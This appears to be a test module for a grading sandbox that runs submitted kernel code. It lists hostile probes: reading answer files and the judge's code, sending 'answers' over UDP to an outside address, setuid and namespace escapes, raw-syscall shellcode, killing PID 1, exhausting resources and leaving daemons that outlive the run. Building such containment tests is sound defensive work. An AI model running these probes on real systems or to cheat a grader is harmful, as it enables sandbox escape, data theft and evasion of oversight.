"""Tricks that reach for what is outside of the jail: answers, the judge, the machine, the network.

Each returns a right result if it got what it reached for. Outside of a jail most do, and pass.
"""

from tests.hostile.entry import Trick

_RIGHT = "return honest(q, k, v, **options)"
_ENDED = ("crash",)

_LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"
_REFUSED = "if {call} != 0:\n    raise OSError(ctypes.get_errno(), '{what}')\n"
_IN_KERNELS = f"{_LIBC}os.chdir(os.environ['TRITON_CACHE_DIR'])\n"


def _reads(what: str, path: str) -> Trick:
    return Trick(f"reads {what}", f"open('{path}', 'rb').read(1)\n{_RIGHT}")


def _writes(what: str, path: str, *verdicts: str) -> Trick:
    return Trick(f"writes {what}", f"open('{path}', 'w').close()\n{_RIGHT}", verdicts or ("error",))


def _calls(name: str, call: str) -> Trick:
    return Trick(name, f"{_LIBC}{_REFUSED.format(call=call, what=name)}{_RIGHT}")


def _takes(name: str, lines: str, *verdicts: str) -> Trick:
    return Trick(name, f"{lines}{_RIGHT}", verdicts or _ENDED)


REACHING = (
    _reads("a model answer", "RUN_FOLDER/checkout/solutions/p02/weighted_row_sum.py"),
    _reads("the reference", "RUN_FOLDER/checkout/reference/naive.py"),
    _reads("a neighbour's file", "RUN_FOLDER/submission/p02/weighted_row_sum.py"),
    _reads("who has an account", "/etc/passwd"),
    # These lie in the jail's own /tmp, if it shows their folder; none may be found afterwards.
    _writes("into the judge's temporary folder", "RUN_FOLDER/tmp/probe", "pass", "error"),
    _writes("into the checkout", "RUN_FOLDER/checkout/sitecustomize.py", "pass", "error"),
    _writes("beside the judge's worker", "RUN_FOLDER/checkout/grader/isolate/probe"),
    Trick(
        "writes into Python's packages",
        f"open(os.path.join(os.path.dirname(torch.__file__), 'probe'), 'w').close()\n{_RIGHT}",
    ),
    _writes("into the file system's root", "/probe"),
    Trick(
        "reads the judge's memory",
        "pids = {int(n) for n in os.listdir('/proc') if n.isdigit()} - {1, os.getpid()}\n"
        f"open(f'/proc/{{min(pids)}}/mem', 'rb').close()\n{_RIGHT}",
    ),
    Trick(
        "sends signals to others",
        "found = 0\nfor pid in range(2, 40000):\n    try:\n        os.kill(pid, 0)\n"
        "    except OSError:\n        continue\n    found += pid != os.getpid()\n"
        f"if not found:\n    raise ProcessLookupError('nobody is there')\n{_RIGHT}",
    ),
    Trick(
        "talks to the network",
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:\n"
        f"    one.sendto(b'answers', ('192.0.2.1', 9))\n{_RIGHT}",
    ),
    _reads("the judge's code", "RUN_FOLDER/checkout/grader/judge.py"),
    _calls("makes a user namespace", "libc.unshare(0x10000000)"),
    _calls("makes a mount namespace", "libc.unshare(0x00020000)"),
    _calls("mounts a file system", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
    _calls("traces its parent", "libc.ptrace(16, os.getppid(), None, None)"),
    _calls("lifts its limit of memory", "resource.setrlimit(resource.RLIMIT_AS, (-1, -1)) or 0"),
    _calls("becomes root", "libc.setuid(0)"),
    _reads("the numbers of the keyrings", "/proc/keys"),
    Trick(
        "sets what the kernel runs at a crash",  # opened for writing, and left as it is
        f"os.close(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY))\n{_RIGHT}",
    ),
)

_NUMBERED = "libc.syscall({}, *(ctypes.c_long(n) for n in ({})))"


def _asks(name: str, number: int, arguments: str = "0, 0, 0, 0, 0, 0") -> Trick:
    """Make a system call, by its number on x86-64; done is what does not end with ENOSYS."""
    call = _NUMBERED.format(number, arguments)
    refused = "if ctypes.get_errno() == 38:\n    raise OSError(38, 'refused')\n"
    return Trick(name, f"{_LIBC}{call}\n{refused}{_RIGHT}")


def _opens(name: str, family: int, kind: int) -> Trick:
    return Trick(name, f"socket.socket({family}, {kind}).close()\n{_RIGHT}")


# What the kernel refuses, since version 0.25.
REFUSED = (
    _asks("leaves a key in its session's keyring", 250, "0, -3, 1, 0, 0"),
    _asks("makes a ring of requests to the kernel", 425, "4, 0"),
    _asks("handles page faults itself", 323, "1, 0"),
    _asks("takes shared memory that belongs to no process", 29, "0, 4096, 0o1600"),
    _asks("leaves a message in a queue", 68, "0, 0o1600"),
    _asks("takes a descriptor of the jail's first process", 438, "0, 0, 0"),
    _asks("reads memory of another process", 310, "1, 0, 0, 0, 0, 0"),
    _asks("hides what it has open", 157, "4, 0, 0, 0, 0"),
    _asks("lists mounts by a call of Linux 6.8", 458, "0, 0, 0, 0"),
    _opens("talks to the host of a virtual machine", 40, 1),
    _opens("talks to the kernel by netlink", 16, 3),
    Trick(
        "memory in descriptors on their way",
        "a, b = socket.socketpair()\nfor n in range(12):\n    fd = os.memfd_create('m')\n"
        "    socket.send_fds(a, [b'x'], [fd])\n    os.posix_fallocate(fd, 0, 2**20)\n"
        f"    os.close(fd)\n{_RIGHT}",
    ),
)

_AMONG = "import tempfile\nos.chdir(tempfile.mkdtemp(dir=os.environ['TRITON_CACHE_DIR']))\n"


def _leaves(name: str, lines: str, *verdicts: str) -> Trick:
    """Leave something where workers keep what they compile, which the judge looks through."""
    return Trick(name, f"{_AMONG}{lines}\n{_RIGHT}", verdicts or ("pass",))


# int 0x80: a call of a 32-bit program, whose numbers are others; 288 is keyctl there.
_CODE = r"b'\xb8\x20\x01\x00\x00\xcd\x80\xc3'"
_EXECUTED = (
    "page = mmap.mmap(-1, 4096, prot=7)\n"
    f"page.write({_CODE})\n"
    "at = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
    "if ctypes.CFUNCTYPE(ctypes.c_int)(at)() == -38:\n    raise OSError(38, 'refused')\n"
)
UNLISTED = (
    _leaves("a pipe among compiled kernels", "os.mkfifo('pipe')"),
    _leaves("a socket among compiled kernels", "socket.socket(socket.AF_UNIX).bind('socket')"),
    _leaves("a program with another's rights", "open('x', 'w').close()\nos.chmod('x', 0o6777)"),
    _leaves(
        "folders that nobody may open among compiled kernels",
        "os.makedirs('a/b')\nos.chmod('a/b', 0)\nos.chmod('a', 0)",
        *("pass", "crash"),  # root looks into them, another judge cannot
    ),
    _leaves(
        "names that are escapes among compiled kernels",
        r"open('\x1b[2J\n\udcff', 'w').close()",
    ),
    _leaves("a link to the answers", "os.symlink('RUN_FOLDER/checkout/solutions', 'link')"),
    Trick(
        "is the last to be ended where memory is short",
        f"os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'-1000')\n{_RIGHT}",
    ),
    Trick("goes before all others", f"os.nice(-10)\n{_RIGHT}"),
    Trick(
        "runs in real time",
        f"os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))\n{_RIGHT}",
    ),
    Trick(
        "reads what the judge's environment has",
        "if 'RUN_FOLDER/tmp\\0' not in open('/proc/1/environ').read() + '\\0':\n"
        f"    raise PermissionError('not there')\n{_RIGHT}",
    ),
    Trick(
        "talks to a service of the host by a name without a file",
        f"if '@' not in open('/proc/net/unix').read():\n    raise OSError('nobody')\n{_RIGHT}",
    ),
    Trick(
        "stops the jail's first process",
        f"os.kill(1, signal.SIGSTOP)\nos.kill(1, signal.SIGKILL)\n{_RIGHT}",
        ("pass",),
    ),
    _asks("a keyring by the numbers of x32", 0x40000000 + 250, "0, -3, 1, 0, 0"),
    _asks("a keyring by a number of 64 bits", 2**32 + 250, "0, -3, 1, 0, 0"),
    Trick("a keyring by a call of 32 bits", f"{_EXECUTED}{_RIGHT}", ("crash", "error")),
)

TAKING = (
    _takes("fills /tmp", "open('/tmp/x', 'wb').write(bytes(512 * 2**20))\n", "error"),
    _takes("fills its folder", "open('x', 'wb').write(bytes(512 * 2**20))\n", "error"),
    _takes(
        "files that hold nothing, in memory",
        "for n in range(60000):\n    os.mknod(f'/tmp/{n}')\ntime.sleep(20)\n",
        *("crash", "timeout"),
    ),
    _takes(
        "attributes of a file in memory",
        "open('/dev/shm/x', 'w').close()\n"
        "for n in range(2000):\n    os.setxattr('/dev/shm/x', f'user.{n}', bytes(60000))\n"
        "time.sleep(20)\n",
        *("crash", "error", "timeout"),  # before Linux 6.6 there are none
    ),
    _takes(
        "memory, in children",
        "for _ in range(8):\n    if os.fork() == 0:\n        held = b'x' * (900 * 2**20)\n"
        "        time.sleep(60)\n        os._exit(0)\ntime.sleep(20)\n",
        *("crash", "timeout"),  # a machine may need longer for so much
    ),
    _takes(
        "memory without a process",
        "held = [os.memfd_create('m') for _ in range(12)]\n"
        "for fd in held:\n    os.posix_fallocate(fd, 0, 512 * 2**20)\ntime.sleep(20)\n",
    ),
    _takes(
        "300 processes",
        "for _ in range(300):\n    if os.fork() == 0:\n        time.sleep(60)\n"
        "        os._exit(0)\ntime.sleep(20)\n",
    ),
    _takes(
        "disk, as compiled kernels",
        "folder = os.environ['TRITON_CACHE_DIR']\nfor n in range(3):\n"
        "    with open(f'{folder}/{n}', 'wb') as file:\n"
        "        os.posix_fallocate(file.fileno(), 0, 512 * 2**20)\ntime.sleep(20)\n",
    ),
    _takes(
        "disk, in files without a name",
        _IN_KERNELS + "held = []\nfor n in range(3):\n"
        "    held.append(os.open(str(n), os.O_CREAT | os.O_RDWR))\n    os.unlink(str(n))\n"
        "    os.posix_fallocate(held[-1], 0, 512 * 2**20)\ntime.sleep(20)\n",
    ),
    _takes(
        "disk, in mapped files without a name",
        _IN_KERNELS + "held = []\nfor n in range(3):\n"
        "    with open(str(n), 'w+b') as file:\n        os.unlink(str(n))\n"
        "        os.posix_fallocate(file.fileno(), 0, 512 * 2**20)\n"
        "        held.append(os.dup(file.fileno()))\n"
        "maps = [libc.mmap(None, 2**29, 1, 1, fd, 0) for fd in held]\n"
        "assert -1 not in maps\nlist(map(os.close, held))\ntime.sleep(20)\n",
    ),
    _takes(
        "disk, deeper than a path can be",
        _IN_KERNELS + "for n in range(20):\n    os.mkdir('d' * 250)\n    os.chdir('d' * 250)\n"
        "for n in range(3):\n    with open(str(n), 'wb') as file:\n"
        "        os.posix_fallocate(file.fileno(), 0, 512 * 2**20)\ntime.sleep(20)\n",
    ),
    _takes(
        "40,000 files that hold nothing, as compiled kernels",
        _IN_KERNELS + "for n in range(40000):\n    os.mknod(str(n))\ntime.sleep(20)\n",
        *("crash", "timeout"),  # a machine may need longer for so many
    ),
    Trick(
        "a daemon that outlives it",
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(300)\n"
        f"    os._exit(0)\nos.wait()\n{_RIGHT}",
        ("pass",),
    ),
)
